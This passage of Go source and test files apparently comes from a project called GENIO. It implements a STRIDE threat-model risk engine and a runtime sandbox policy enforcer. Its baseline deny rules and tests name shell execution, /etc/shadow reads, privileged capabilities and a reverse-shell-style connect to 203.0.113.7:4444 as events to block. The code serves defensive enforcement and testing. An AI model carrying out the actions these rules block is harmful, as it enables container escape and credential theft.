func TestMatrixRendering(t *testing.T) {
	out := GENIOModel().RenderMatrix()
	for _, needle := range []string{"T1", "T8", "MACsec", "Falco", "infrastructure", "application", "M17"} {
		if !strings.Contains(out, needle) {
			t.Errorf("matrix missing %q", needle)
		}
	}
	lines := strings.Count(out, "\n")
	if lines != 9 { // header + 8 threats
		t.Fatalf("matrix lines = %d, want 9", lines)
	}
}

func TestMatrixToolUnion(t *testing.T) {
	rows := GENIOModel().Matrix()
	var t2 MatrixRow
	for _, r := range rows {
		if r.ThreatID == "T2" {
			t2 = r
		}
	}
	// T2 is covered by M5, M6, M7, M9: tools must include the union.
	tools := strings.Join(t2.Tools, ",")
	for _, tool := range []string{"Shim", "LUKS", "Tripwire", "ONIE"} {
		if !strings.Contains(tools, tool) {
			t.Errorf("T2 tools missing %s: %v", tool, t2.Tools)
		}
	}
	// TPM appears in M5, M6, M9 but must be deduplicated.
	count := 0
	for _, tool := range t2.Tools {
		if tool == "TPM" {
			count++
		}
	}
	if count != 1 {
		t.Fatalf("TPM deduplication failed: %v", t2.Tools)
	}
}

func TestStringers(t *testing.T) {
	if LayerMiddleware.String() != "middleware" || Layer(9).String() != "layer(9)" {
		t.Fatal("Layer.String mismatch")
	}
	if Spoofing.String() != "spoofing" || Category(99).String() != "category(99)" {
		t.Fatal("Category.String mismatch")
	}
}
