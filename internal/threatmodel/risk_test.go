package threatmodel

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestAssessFullDeployment(t *testing.T) {
	rm := GENIORiskModel()
	as, err := rm.Assess(nil)
	if err != nil {
		t.Fatalf("Assess: %v", err)
	}
	if len(as) != 8 {
		t.Fatalf("assessments = %d, want 8", len(as))
	}
	for _, a := range as {
		if a.Residual >= float64(a.Inherent) {
			t.Errorf("%s residual %.2f >= inherent %d with all mitigations", a.ThreatID, a.Residual, a.Inherent)
		}
		if a.Residual < 0 {
			t.Errorf("%s negative residual", a.ThreatID)
		}
		if len(a.Applied) == 0 {
			t.Errorf("%s had no mitigations applied", a.ThreatID)
		}
	}
}

func TestAssessNothingDeployed(t *testing.T) {
	rm := GENIORiskModel()
	as, err := rm.Assess(map[string]bool{})
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range as {
		if a.Residual != float64(a.Inherent) {
			t.Errorf("%s residual %.2f != inherent %d with nothing deployed", a.ThreatID, a.Residual, a.Inherent)
		}
	}
}

func TestAssessSortedByResidual(t *testing.T) {
	rm := GENIORiskModel()
	as, err := rm.Assess(nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(as); i++ {
		if as[i].Residual > as[i-1].Residual {
			t.Fatal("assessments not sorted by residual risk")
		}
	}
}

func TestTotalRiskReduction(t *testing.T) {
	rm := GENIORiskModel()
	full, err := rm.Assess(nil)
	if err != nil {
		t.Fatal(err)
	}
	none, err := rm.Assess(map[string]bool{})
	if err != nil {
		t.Fatal(err)
	}
	_, fullRes := TotalRisk(full)
	noneInh, noneRes := TotalRisk(none)
	if fullRes >= noneRes {
		t.Fatalf("full deployment residual %.2f >= undeployed %.2f", fullRes, noneRes)
	}
	if noneRes != float64(noneInh) {
		t.Fatalf("undeployed residual %.2f != inherent %d", noneRes, noneInh)
	}
	// The secure posture should cut total risk by well over half.
	if fullRes > 0.5*noneRes {
		t.Fatalf("risk reduction too small: %.2f -> %.2f", noneRes, fullRes)
	}
}

// Property: deploying more mitigations never increases any threat's
// residual risk (monotonicity of defense in depth).
func TestAssessMonotonicityProperty(t *testing.T) {
	rm := GENIORiskModel()
	allMits := make([]string, 0, len(rm.Strengths))
	for m := range rm.Strengths {
		allMits = append(allMits, m)
	}
	f := func(mask uint32, extraIdx uint8) bool {
		deployed := map[string]bool{}
		for i, m := range allMits {
			if mask&(1<<uint(i%32)) != 0 {
				deployed[m] = true
			}
		}
		before, err := rm.Assess(deployed)
		if err != nil {
			return false
		}
		// Add one more mitigation.
		deployed[allMits[int(extraIdx)%len(allMits)]] = true
		after, err := rm.Assess(deployed)
		if err != nil {
			return false
		}
		resOf := func(as []RiskAssessment) map[string]float64 {
			m := map[string]float64{}
			for _, a := range as {
				m[a.ThreatID] = a.Residual
			}
			return m
		}
		b, a := resOf(before), resOf(after)
		for tid := range b {
			if a[tid] > b[tid]+1e-9 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

func TestAssessErrors(t *testing.T) {
	rm := GENIORiskModel()
	delete(rm.Inputs, "T5")
	if _, err := rm.Assess(nil); err == nil {
		t.Fatal("missing input accepted")
	}
	rm = GENIORiskModel()
	rm.Strengths["M3"] = 1.5
	if _, err := rm.Assess(nil); err == nil {
		t.Fatal("out-of-range strength accepted")
	}
	rm = GENIORiskModel()
	delete(rm.Strengths, "M3")
	if _, err := rm.Assess(nil); err == nil {
		t.Fatal("missing strength accepted")
	}
}

func TestRenderAssessment(t *testing.T) {
	rm := GENIORiskModel()
	as, err := rm.Assess(nil)
	if err != nil {
		t.Fatal(err)
	}
	out := RenderAssessment(as)
	for _, needle := range []string{"inherent", "residual", "SUM", "reduction", "T8"} {
		if !strings.Contains(out, needle) {
			t.Errorf("render missing %q", needle)
		}
	}
}

func TestLevelString(t *testing.T) {
	if VeryHigh.String() != "very-high" || Level(9).String() != "level(9)" {
		t.Fatal("Level.String mismatch")
	}
}
