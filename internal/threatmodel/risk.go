package threatmodel

// Risk assessment over the threat model: each threat carries a likelihood
// and impact estimate; each deployed mitigation reduces the effective
// likelihood by its strength. The residual-risk computation shows how the
// Figure-3 coverage translates into the risk posture the GENIO project used
// to argue Cyber Resilience Act alignment.

import (
	"fmt"
	"sort"
	"strings"
)

// Level is a coarse 1–5 scale used for likelihood and impact.
type Level int

// Levels.
const (
	VeryLow Level = iota + 1
	LowLevel
	Moderate
	HighLevel
	VeryHigh
)

var levelNames = map[Level]string{
	VeryLow: "very-low", LowLevel: "low", Moderate: "moderate",
	HighLevel: "high", VeryHigh: "very-high",
}

// String names the level.
func (l Level) String() string {
	if n, ok := levelNames[l]; ok {
		return n
	}
	return fmt.Sprintf("level(%d)", int(l))
}

// RiskInput is the per-threat estimate before mitigation.
type RiskInput struct {
	Likelihood Level `json:"likelihood"`
	Impact     Level `json:"impact"`
}

// MitigationStrength is the fraction of attack likelihood a mitigation
// removes when deployed (0..1).
type MitigationStrength float64

// RiskAssessment is the computed risk for one threat.
type RiskAssessment struct {
	ThreatID string   `json:"threatId"`
	Inherent int      `json:"inherent"` // likelihood x impact, unmitigated
	Residual float64  `json:"residual"` // after deployed mitigations
	Applied  []string `json:"applied"`  // mitigations counted
}

// RiskModel couples the threat model with estimates and strengths.
type RiskModel struct {
	Model     *Model
	Inputs    map[string]RiskInput          // threat ID -> estimate
	Strengths map[string]MitigationStrength // mitigation ID -> strength
}

// GENIORiskModel returns the calibrated inputs used by the project: the
// likelihoods reflect the paper's threat discussion (physically exposed
// hardware makes T1/T2 likely; multi-tenancy makes T7/T8 very likely),
// impacts reflect blast radius.
func GENIORiskModel() *RiskModel {
	return &RiskModel{
		Model: GENIOModel(),
		Inputs: map[string]RiskInput{
			"T1": {Likelihood: HighLevel, Impact: HighLevel},
			"T2": {Likelihood: Moderate, Impact: VeryHigh},
			"T3": {Likelihood: HighLevel, Impact: HighLevel},
			"T4": {Likelihood: HighLevel, Impact: VeryHigh},
			"T5": {Likelihood: HighLevel, Impact: HighLevel},
			"T6": {Likelihood: Moderate, Impact: HighLevel},
			"T7": {Likelihood: VeryHigh, Impact: Moderate},
			"T8": {Likelihood: VeryHigh, Impact: HighLevel},
		},
		Strengths: map[string]MitigationStrength{
			"M1": 0.5, "M2": 0.5, "M3": 0.8, "M4": 0.8, "M5": 0.7,
			"M6": 0.6, "M7": 0.5, "M8": 0.6, "M9": 0.7, "M10": 0.7,
			"M11": 0.5, "M12": 0.5, "M13": 0.5, "M14": 0.4, "M15": 0.4,
			"M16": 0.5, "M17": 0.7, "M18": 0.6,
		},
	}
}

// Assess computes inherent and residual risk per threat. deployed selects
// the active mitigations (nil = all in the model). Mitigations compose
// multiplicatively on the unmitigated likelihood: residual likelihood =
// L * Π(1-strength) over deployed mitigations of that threat.
func (rm *RiskModel) Assess(deployed map[string]bool) ([]RiskAssessment, error) {
	if err := rm.Model.Validate(); err != nil {
		return nil, err
	}
	cov := rm.Model.Coverage()
	out := make([]RiskAssessment, 0, len(rm.Model.Threats))
	for _, t := range rm.Model.Threats {
		in, ok := rm.Inputs[t.ID]
		if !ok {
			return nil, fmt.Errorf("threatmodel: no risk input for %s", t.ID)
		}
		a := RiskAssessment{
			ThreatID: t.ID,
			Inherent: int(in.Likelihood) * int(in.Impact),
		}
		factor := 1.0
		for _, mid := range cov[t.ID] {
			if deployed != nil && !deployed[mid] {
				continue
			}
			strength, ok := rm.Strengths[mid]
			if !ok {
				return nil, fmt.Errorf("threatmodel: no strength for %s", mid)
			}
			if strength < 0 || strength > 1 {
				return nil, fmt.Errorf("threatmodel: strength for %s out of range", mid)
			}
			factor *= 1 - float64(strength)
			a.Applied = append(a.Applied, mid)
		}
		a.Residual = float64(a.Inherent) * factor
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Residual > out[j].Residual })
	return out, nil
}

// TotalRisk sums a set of assessments.
func TotalRisk(as []RiskAssessment) (inherent int, residual float64) {
	for _, a := range as {
		inherent += a.Inherent
		residual += a.Residual
	}
	return inherent, residual
}

// RenderAssessment formats assessments as a table.
func RenderAssessment(as []RiskAssessment) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-4s %-9s %-9s %s\n", "ID", "inherent", "residual", "mitigations applied")
	for _, a := range as {
		fmt.Fprintf(&b, "%-4s %-9d %-9.2f %s\n", a.ThreatID, a.Inherent, a.Residual,
			strings.Join(a.Applied, ","))
	}
	inh, res := TotalRisk(as)
	fmt.Fprintf(&b, "%-4s %-9d %-9.2f (%.0f%% reduction)\n", "SUM", inh, res,
		100*(1-res/float64(inh)))
	return b.String()
}
