// Package threatmodel implements the STRIDE-based threat modelling engine
// used to design GENIO's security posture (Section III of the paper), and
// encodes the paper's concrete model: threats T1–T8 across the
// infrastructure, middleware, and application layers, mitigations M1–M18,
// and the threat-to-mitigation coverage matrix of Figure 3.
package threatmodel

import (
	"fmt"
	"sort"
	"strings"
)

// Layer is an architectural layer of the GENIO platform.
type Layer int

// Layers.
const (
	LayerInfrastructure Layer = iota + 1
	LayerMiddleware
	LayerApplication
)

var layerNames = map[Layer]string{
	LayerInfrastructure: "infrastructure",
	LayerMiddleware:     "middleware",
	LayerApplication:    "application",
}

// String names the layer.
func (l Layer) String() string {
	if n, ok := layerNames[l]; ok {
		return n
	}
	return fmt.Sprintf("layer(%d)", int(l))
}

// Category is a STRIDE threat category.
type Category int

// STRIDE categories.
const (
	Spoofing Category = iota + 1
	Tampering
	Repudiation
	InformationDisclosure
	DenialOfService
	ElevationOfPrivilege
)

var categoryNames = map[Category]string{
	Spoofing:              "spoofing",
	Tampering:             "tampering",
	Repudiation:           "repudiation",
	InformationDisclosure: "information-disclosure",
	DenialOfService:       "denial-of-service",
	ElevationOfPrivilege:  "elevation-of-privilege",
}

// String names the category.
func (c Category) String() string {
	if n, ok := categoryNames[c]; ok {
		return n
	}
	return fmt.Sprintf("category(%d)", int(c))
}

// Threat is one modelled threat.
type Threat struct {
	ID          string     `json:"id"`
	Name        string     `json:"name"`
	Layer       Layer      `json:"layer"`
	STRIDE      []Category `json:"stride"`
	Description string     `json:"description"`
	Vectors     []string   `json:"vectors"`
}

// Mitigation is one deployed countermeasure.
type Mitigation struct {
	ID        string   `json:"id"`
	Name      string   `json:"name"`
	Layer     Layer    `json:"layer"`
	Mitigates []string `json:"mitigates"` // threat IDs
	Tools     []string `json:"tools"`     // OSS tools the paper names
	Standards []string `json:"standards"` // standards/guidelines followed
	Module    string   `json:"module"`    // package implementing it here
}

// Model is a complete threat model.
type Model struct {
	Threats     []Threat     `json:"threats"`
	Mitigations []Mitigation `json:"mitigations"`
}

// ThreatByID returns a threat.
func (m *Model) ThreatByID(id string) (Threat, bool) {
	for _, t := range m.Threats {
		if t.ID == id {
			return t, true
		}
	}
	return Threat{}, false
}

// MitigationByID returns a mitigation.
func (m *Model) MitigationByID(id string) (Mitigation, bool) {
	for _, mit := range m.Mitigations {
		if mit.ID == id {
			return mit, true
		}
	}
	return Mitigation{}, false
}

// Validate checks referential integrity: every mitigation maps to existing
// threats, IDs are unique.
func (m *Model) Validate() error {
	tids := make(map[string]bool, len(m.Threats))
	for _, t := range m.Threats {
		if tids[t.ID] {
			return fmt.Errorf("threatmodel: duplicate threat id %s", t.ID)
		}
		tids[t.ID] = true
	}
	mids := make(map[string]bool, len(m.Mitigations))
	for _, mit := range m.Mitigations {
		if mids[mit.ID] {
			return fmt.Errorf("threatmodel: duplicate mitigation id %s", mit.ID)
		}
		mids[mit.ID] = true
		if len(mit.Mitigates) == 0 {
			return fmt.Errorf("threatmodel: mitigation %s mitigates nothing", mit.ID)
		}
		for _, tid := range mit.Mitigates {
			if !tids[tid] {
				return fmt.Errorf("threatmodel: mitigation %s references unknown threat %s", mit.ID, tid)
			}
		}
	}
	return nil
}

// Coverage maps each threat ID to the mitigations addressing it.
func (m *Model) Coverage() map[string][]string {
	out := make(map[string][]string, len(m.Threats))
	for _, t := range m.Threats {
		out[t.ID] = nil
	}
	for _, mit := range m.Mitigations {
		for _, tid := range mit.Mitigates {
			out[tid] = append(out[tid], mit.ID)
		}
	}
	for tid := range out {
		sort.Strings(out[tid])
	}
	return out
}

// Uncovered returns threats with no mitigation.
func (m *Model) Uncovered() []string {
	var out []string
	for tid, mits := range m.Coverage() {
		if len(mits) == 0 {
			out = append(out, tid)
		}
	}
	sort.Strings(out)
	return out
}

// MatrixRow is one line of the Figure-3 reproduction.
type MatrixRow struct {
	ThreatID    string   `json:"threatId"`
	ThreatName  string   `json:"threatName"`
	Layer       string   `json:"layer"`
	Mitigations []string `json:"mitigations"`
	Tools       []string `json:"tools"`
	Standards   []string `json:"standards"`
}

// Matrix produces the Figure-3 rows: per threat, its mitigations, the OSS
// tools deployed, and the standards followed.
func (m *Model) Matrix() []MatrixRow {
	cov := m.Coverage()
	rows := make([]MatrixRow, 0, len(m.Threats))
	for _, t := range m.Threats {
		row := MatrixRow{ThreatID: t.ID, ThreatName: t.Name, Layer: t.Layer.String(),
			Mitigations: cov[t.ID]}
		seenTool := map[string]bool{}
		seenStd := map[string]bool{}
		for _, mid := range cov[t.ID] {
			mit, _ := m.MitigationByID(mid)
			for _, tool := range mit.Tools {
				if !seenTool[tool] {
					seenTool[tool] = true
					row.Tools = append(row.Tools, tool)
				}
			}
			for _, std := range mit.Standards {
				if !seenStd[std] {
					seenStd[std] = true
					row.Standards = append(row.Standards, std)
				}
			}
		}
		sort.Strings(row.Tools)
		sort.Strings(row.Standards)
		rows = append(rows, row)
	}
	return rows
}

// RenderMatrix renders the Figure-3 reproduction as aligned text.
func (m *Model) RenderMatrix() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-4s %-26s %-15s %-22s %s\n", "ID", "Threat", "Layer", "Mitigations", "OSS tools / standards")
	for _, row := range m.Matrix() {
		fmt.Fprintf(&b, "%-4s %-26s %-15s %-22s %s\n",
			row.ThreatID, row.ThreatName, row.Layer,
			strings.Join(row.Mitigations, ","),
			strings.Join(append(append([]string(nil), row.Tools...), row.Standards...), ", "))
	}
	return b.String()
}
