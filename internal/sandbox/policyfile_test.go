package sandbox

import (
	"testing"

	"genio/internal/trace"
)

func TestPolicyJSONRoundTrip(t *testing.T) {
	p := DefaultWorkloadPolicy()
	data, err := MarshalPolicy(p)
	if err != nil {
		t.Fatalf("MarshalPolicy: %v", err)
	}
	back, err := UnmarshalPolicy(data)
	if err != nil {
		t.Fatalf("UnmarshalPolicy: %v", err)
	}
	if back.Name != p.Name || len(back.Rules) != len(p.Rules) || back.DefaultAction != p.DefaultAction {
		t.Fatalf("round trip changed policy: %+v", back)
	}
	// Behavioural equivalence on the attack traces.
	for _, events := range [][]trace.Event{
		trace.ContainerEscapeTrace("w", "t"),
		trace.ReverseShellTrace("w", "t"),
		trace.BenignWebTrace("w", "t", 5),
	} {
		for _, e := range events {
			if p.Decide(e) != back.Decide(e) {
				t.Fatalf("decision diverged on %+v", e)
			}
		}
	}
}

func TestUnmarshalRejectsInvalid(t *testing.T) {
	cases := map[string]string{
		"not json":     `{`,
		"no name":      `{"rules":[],"defaultAction":1}`,
		"bad action":   `{"name":"p","rules":[{"types":[1],"action":99}]}`,
		"no action":    `{"name":"p","rules":[{"types":[1],"targetPrefix":"/x"}]}`,
		"bad evt type": `{"name":"p","rules":[{"types":[42],"action":2}]}`,
	}
	for name, doc := range cases {
		if _, err := UnmarshalPolicy([]byte(doc)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func TestBatchPolicyBlocksAllEgress(t *testing.T) {
	e := NewEnforcer()
	e.SetPolicy("batch", BatchWorkloadPolicy())
	// Benign batch work passes.
	vs := e.Process(trace.BenignBatchTrace("batch", "t", 5))
	if len(Blocked(vs)) != 0 {
		t.Fatalf("benign batch blocked: %+v", Blocked(vs))
	}
	// Any network egress is blocked.
	events := trace.NewBuilder("batch", "t").
		Add(trace.EventConnect, "job", "db.internal:5432").
		Events()
	vs = e.Process(events)
	if len(Blocked(vs)) != 1 {
		t.Fatalf("batch egress not blocked: %+v", vs)
	}
}

func TestWebPolicyAllowsDBBlocksEscape(t *testing.T) {
	e := NewEnforcer()
	e.SetPolicy("web", WebWorkloadPolicy(".internal:5432"))
	vs := e.Process(trace.BenignWebTrace("web", "t", 5))
	if len(Blocked(vs)) != 0 {
		t.Fatalf("benign web blocked: %+v", Blocked(vs))
	}
	vs = e.Process(trace.ReverseShellTrace("web", "t"))
	if len(Blocked(vs)) != 1 {
		t.Fatalf("reverse shell not blocked: %+v", vs)
	}
}

func TestValidatePolicyAcceptsProfiles(t *testing.T) {
	for _, p := range []Policy{
		DefaultWorkloadPolicy(), BatchWorkloadPolicy(), WebWorkloadPolicy(".internal"),
	} {
		if err := ValidatePolicy(p); err != nil {
			t.Errorf("%s: %v", p.Name, err)
		}
	}
}
