package sandbox

import (
	"testing"

	"genio/internal/container"
	"genio/internal/orchestrator"
	"genio/internal/trace"
)

func enforcerWithBaseline(workload string) *Enforcer {
	e := NewEnforcer()
	e.SetPolicy(workload, DefaultWorkloadPolicy())
	return e
}

func TestBenignTrafficUnblocked(t *testing.T) {
	e := enforcerWithBaseline("web")
	vs := e.Process(trace.BenignWebTrace("web", "acme", 10))
	if len(Blocked(vs)) != 0 {
		t.Fatalf("benign traffic blocked: %+v", Blocked(vs))
	}
	blocked, _ := e.Counts("web")
	if blocked != 0 {
		t.Fatalf("blocked = %d", blocked)
	}
}

func TestContainerEscapeBlockedAtCapability(t *testing.T) {
	e := enforcerWithBaseline("miner")
	events := trace.ContainerEscapeTrace("miner", "shady")
	vs := e.Process(events)
	b := Blocked(vs)
	if len(b) != 1 {
		t.Fatalf("blocked = %+v", b)
	}
	if b[0].Event.Type != trace.EventCapability || b[0].Event.Target != "CAP_SYS_ADMIN" {
		t.Fatalf("blocked event = %+v", b[0].Event)
	}
	// Enforcement terminates the trace: later host-fs writes never happen.
	if len(vs) >= len(events) {
		t.Fatal("trace continued past blocking decision")
	}
}

func TestReverseShellBlockedAtExec(t *testing.T) {
	e := enforcerWithBaseline("web")
	vs := e.Process(trace.ReverseShellTrace("web", "acme"))
	b := Blocked(vs)
	if len(b) != 1 || b[0].Event.Target != "/bin/bash" {
		t.Fatalf("blocked = %+v", b)
	}
}

func TestUnpoliciedWorkloadAllowsEverything(t *testing.T) {
	// Without a policy (the pre-M17 posture) the escape succeeds.
	e := NewEnforcer()
	vs := e.Process(trace.ContainerEscapeTrace("miner", "shady"))
	if len(Blocked(vs)) != 0 {
		t.Fatal("no-policy enforcer blocked something")
	}
	if len(vs) != len(trace.ContainerEscapeTrace("miner", "shady")) {
		t.Fatal("trace truncated without enforcement")
	}
}

func TestAuditModeRecordsWithoutBlocking(t *testing.T) {
	e := enforcerWithBaseline("batch")
	// Batch workload writes outside /var/log and /out -> audit.
	events := trace.NewBuilder("batch", "acme").
		Add(trace.EventFileWrite, "job", "/tmp/scratch").
		Events()
	vs := e.Process(events)
	if len(vs) != 1 || vs[0].Action != ActionAudit {
		t.Fatalf("verdicts = %+v", vs)
	}
	_, audited := e.Counts("batch")
	if audited != 1 {
		t.Fatalf("audited = %d", audited)
	}
}

func TestFirstMatchWins(t *testing.T) {
	p := Policy{
		Name: "ordered",
		Rules: []PolicyRule{
			{Types: []trace.EventType{trace.EventFileOpen}, TargetPrefix: "/app/secrets/public", Action: ActionAllow},
			{Types: []trace.EventType{trace.EventFileOpen}, TargetPrefix: "/app/secrets", Action: ActionBlock},
		},
		DefaultAction: ActionAllow,
	}
	ev := trace.Event{Type: trace.EventFileOpen, Target: "/app/secrets/public/cert.pem"}
	if p.Decide(ev) != ActionAllow {
		t.Fatal("more specific earlier rule did not win")
	}
	ev.Target = "/app/secrets/private.key"
	if p.Decide(ev) != ActionBlock {
		t.Fatal("later rule did not apply")
	}
}

func TestDefaultActionFallback(t *testing.T) {
	p := Policy{Name: "empty"}
	if p.Decide(trace.Event{Type: trace.EventExec, Target: "/x"}) != ActionAllow {
		t.Fatal("zero-value default should allow")
	}
	p.DefaultAction = ActionBlock
	if p.Decide(trace.Event{Type: trace.EventExec, Target: "/x"}) != ActionBlock {
		t.Fatal("explicit default ignored")
	}
}

func TestTypeFilterInRules(t *testing.T) {
	p := Policy{Rules: []PolicyRule{
		{Types: []trace.EventType{trace.EventConnect}, TargetPrefix: "203.0.113.", Action: ActionBlock},
	}}
	// Same target string on a different event type passes.
	if p.Decide(trace.Event{Type: trace.EventFileOpen, Target: "203.0.113.7:4444"}) != ActionAllow {
		t.Fatal("type filter not applied")
	}
	if p.Decide(trace.Event{Type: trace.EventConnect, Target: "203.0.113.7:4444"}) != ActionBlock {
		t.Fatal("matching connect not blocked")
	}
}

func TestActionString(t *testing.T) {
	if ActionBlock.String() != "block" || Action(9).String() != "action(9)" {
		t.Fatal("Action.String mismatch")
	}
}

func TestIsolationReviewScoresPostures(t *testing.T) {
	reg := container.NewRegistry()
	insecure := orchestrator.NewCluster("c1", reg, orchestrator.InsecureDefaults())
	hardened := orchestrator.NewCluster("c2", reg, orchestrator.HardenedSettings())

	low := ReviewIsolation(insecure, 0)
	high := ReviewIsolation(hardened, 1.0)
	if low.Total() >= high.Total() {
		t.Fatalf("insecure %d/%d >= hardened %d/%d",
			low.Total(), low.Max(), high.Total(), high.Max())
	}
	if high.Total() != high.Max() {
		t.Fatalf("fully hardened cluster scored %d/%d: %+v", high.Total(), high.Max(), high.Factors)
	}
	if low.Max() != high.Max() {
		t.Fatal("reviews have different factor counts")
	}
}

func TestIsolationReviewPartialScores(t *testing.T) {
	reg := container.NewRegistry()
	s := orchestrator.HardenedSettings()
	s.EtcdEncryption = false // partial encryption
	c := orchestrator.NewCluster("c", reg, s)
	rev := ReviewIsolation(c, 0.6)
	var enc, sep int
	for _, f := range rev.Factors {
		switch f.Name {
		case "encryption":
			enc = f.Score
		case "tenant-separation":
			sep = f.Score
		}
	}
	if enc != 1 {
		t.Fatalf("encryption score = %d, want 1", enc)
	}
	if sep != 1 {
		t.Fatalf("tenant-separation score = %d, want 1", sep)
	}
}
