// Package sandbox implements LSM-style runtime enforcement for GENIO
// workloads (M17, the KubeArmor role): per-workload policies that allow or
// block process executions, file accesses, network egress, capabilities,
// and syscalls, applied inline to the event stream — plus a PEACH-style
// isolation review scoring tenant separation across the cluster.
package sandbox

import (
	"fmt"
	"strings"
	"sync"

	"genio/internal/orchestrator"
	"genio/internal/trace"
)

// Action is the policy decision for a matched event.
type Action int

// Actions.
const (
	ActionAllow Action = iota + 1
	ActionBlock
	// ActionAudit permits the event but records it (detection-only mode).
	ActionAudit
)

var actionNames = map[Action]string{ActionAllow: "allow", ActionBlock: "block", ActionAudit: "audit"}

// String names the action.
func (a Action) String() string {
	if n, ok := actionNames[a]; ok {
		return n
	}
	return fmt.Sprintf("action(%d)", int(a))
}

// PolicyRule matches runtime events by type and target prefix.
type PolicyRule struct {
	Types []trace.EventType `json:"types"`
	// TargetPrefix matches event targets by prefix; "" matches all.
	TargetPrefix string `json:"targetPrefix"`
	Action       Action `json:"action"`
}

func (r PolicyRule) matches(e trace.Event) bool {
	typeOK := len(r.Types) == 0
	for _, t := range r.Types {
		if t == e.Type {
			typeOK = true
			break
		}
	}
	if !typeOK {
		return false
	}
	return r.TargetPrefix == "" || strings.HasPrefix(e.Target, r.TargetPrefix)
}

// Policy is an ordered rule list with a default action; first match wins,
// like LSM policy evaluation.
type Policy struct {
	Name          string       `json:"name"`
	Rules         []PolicyRule `json:"rules"`
	DefaultAction Action       `json:"defaultAction"`
}

// Decide evaluates one event.
func (p Policy) Decide(e trace.Event) Action {
	for _, r := range p.Rules {
		if r.matches(e) {
			return r.Action
		}
	}
	if p.DefaultAction == 0 {
		return ActionAllow
	}
	return p.DefaultAction
}

// Verdict records one enforcement decision.
type Verdict struct {
	Event  trace.Event `json:"event"`
	Action Action      `json:"action"`
}

// Enforcer applies per-workload policies to event streams. Safe for
// concurrent use.
type Enforcer struct {
	mu       sync.RWMutex
	policies map[string]Policy // workload -> policy
	blocked  map[string]int
	audited  map[string]int
}

// NewEnforcer creates an enforcer with no policies (allow-all).
func NewEnforcer() *Enforcer {
	return &Enforcer{
		policies: make(map[string]Policy),
		blocked:  make(map[string]int),
		audited:  make(map[string]int),
	}
}

// SetPolicy attaches a policy to a workload.
func (e *Enforcer) SetPolicy(workload string, p Policy) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.policies[workload] = p
}

// Process runs a full trace through enforcement. Blocked events terminate
// the trace (the process would be killed), returning the verdicts so far.
// Policy evaluation holds only the read lock, so concurrent workload
// streams enforce in parallel; counters are applied in one write at the
// end of the batch.
func (e *Enforcer) Process(events []trace.Event) []Verdict {
	out := make([]Verdict, 0, len(events))
	var blocked, audited map[string]int
	e.mu.RLock()
	for _, ev := range events {
		a := ActionAllow
		if p, ok := e.policies[ev.Workload]; ok {
			a = p.Decide(ev)
		}
		switch a {
		case ActionBlock:
			if blocked == nil {
				blocked = make(map[string]int)
			}
			blocked[ev.Workload]++
		case ActionAudit:
			if audited == nil {
				audited = make(map[string]int)
			}
			audited[ev.Workload]++
		}
		out = append(out, Verdict{Event: ev, Action: a})
		if a == ActionBlock {
			break
		}
	}
	e.mu.RUnlock()
	if blocked != nil || audited != nil {
		e.mu.Lock()
		for w, n := range blocked {
			e.blocked[w] += n
		}
		for w, n := range audited {
			e.audited[w] += n
		}
		e.mu.Unlock()
	}
	return out
}

// Counts reports blocked/audited totals for a workload.
func (e *Enforcer) Counts(workload string) (blocked, audited int) {
	e.mu.RLock()
	defer e.mu.RUnlock()
	return e.blocked[workload], e.audited[workload]
}

// Blocked filters verdicts to blocked events.
func Blocked(vs []Verdict) []Verdict {
	var out []Verdict
	for _, v := range vs {
		if v.Action == ActionBlock {
			out = append(out, v)
		}
	}
	return out
}

// baselineRules backs every DefaultWorkloadPolicy: the baseline is
// attached on every deploy, and no caller mutates rules in place
// (derived profiles copy with append), so one shared immutable slice
// replaces a dozen allocations per deploy.
var baselineRules = []PolicyRule{
	{Types: []trace.EventType{trace.EventCapability}, TargetPrefix: "CAP_SYS_ADMIN", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventCapability}, TargetPrefix: "CAP_SYS_PTRACE", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventSyscall}, TargetPrefix: "mount", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventSyscall}, TargetPrefix: "ptrace", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventFileOpen, trace.EventFileWrite}, TargetPrefix: "/host/", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventFileOpen}, TargetPrefix: "/etc/shadow", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventExec}, TargetPrefix: "/bin/bash", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventExec}, TargetPrefix: "/bin/sh", Action: ActionBlock},
	{Types: []trace.EventType{trace.EventFileWrite}, TargetPrefix: "/var/log/", Action: ActionAllow},
	{Types: []trace.EventType{trace.EventFileWrite}, TargetPrefix: "/out/", Action: ActionAllow},
	{Types: []trace.EventType{trace.EventFileWrite}, TargetPrefix: "", Action: ActionAudit},
}

// DefaultWorkloadPolicy returns the baseline policy GENIO attaches to soft-
// isolated workloads: block dangerous capabilities, privileged syscalls,
// host-filesystem access, and shells; audit writes outside the app tree.
func DefaultWorkloadPolicy() Policy {
	return Policy{Name: "genio-baseline", Rules: baselineRules, DefaultAction: ActionAllow}
}

// --- PEACH-style isolation review -------------------------------------------

// IsolationFactor is one scored dimension of the PEACH framework
// (privilege hardening, encryption, authentication, connectivity,
// hygiene) plus tenant-separation structure.
type IsolationFactor struct {
	Name   string `json:"name"`
	Score  int    `json:"score"` // 0 (weak) .. 2 (strong)
	Detail string `json:"detail"`
}

// IsolationReview is the result of reviewing a cluster's multi-tenancy.
type IsolationReview struct {
	Factors []IsolationFactor `json:"factors"`
}

// Total sums factor scores.
func (r IsolationReview) Total() int {
	sum := 0
	for _, f := range r.Factors {
		sum += f.Score
	}
	return sum
}

// Max returns the maximum possible score.
func (r IsolationReview) Max() int { return len(r.Factors) * 2 }

// ReviewIsolation scores a cluster against PEACH-style criteria using the
// observable configuration: privileged containers, TLS, RBAC strength,
// tenant co-residency, and network policy hygiene.
func ReviewIsolation(c *orchestrator.Cluster, hardIsolationShare float64) IsolationReview {
	var rev IsolationReview
	s := c.Settings

	priv := 2
